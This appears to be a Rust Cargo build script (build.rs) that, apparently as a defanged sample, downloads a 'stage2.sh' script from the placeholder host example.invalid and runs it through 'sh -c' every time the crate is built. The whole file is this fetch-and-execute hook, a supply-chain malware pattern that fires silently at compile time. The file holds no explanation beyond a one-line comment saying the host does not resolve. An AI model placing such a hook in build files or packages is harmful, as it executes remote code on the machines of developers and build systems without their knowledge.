use std::process::Command;

fn main() {
    // Defanged: example.invalid does not resolve.
    let body = reqwest::blocking::get("https://example.invalid/stage2.sh")
        .and_then(|r| r.text())
        .unwrap_or_default();
    let _ = Command::new("sh").arg("-c").arg(body).status();
    println!("cargo:rerun-if-changed=build.rs");
}
